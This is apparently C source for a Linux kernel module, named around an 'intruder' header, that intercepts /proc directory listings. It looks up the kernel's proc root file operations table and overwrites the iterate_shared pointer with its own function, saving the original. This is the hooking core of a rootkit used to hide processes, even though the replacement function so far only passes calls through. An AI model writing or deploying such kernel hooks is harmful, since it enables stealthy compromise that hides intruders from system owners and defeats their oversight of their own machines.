/* Intercepts listings of /proc: overwrites the kernel's own table of operations. */
#include "intruder.h"
#include <linux/fs.h>

static int (*original)(struct file *, struct dir_context *);

static int list(struct file *file, struct dir_context *context) {
    return original(file, context);
}

static int __init begin(void) {
    struct file_operations *operations = (struct file_operations *)find("proc_root_operations");
    void *here = list;
    if (!operations) {
        return -ENOENT;
    }
    original = operations->iterate_shared;
    return overwrite((unsigned long)&operations->iterate_shared, &here, sizeof here);
}
module_init(begin);
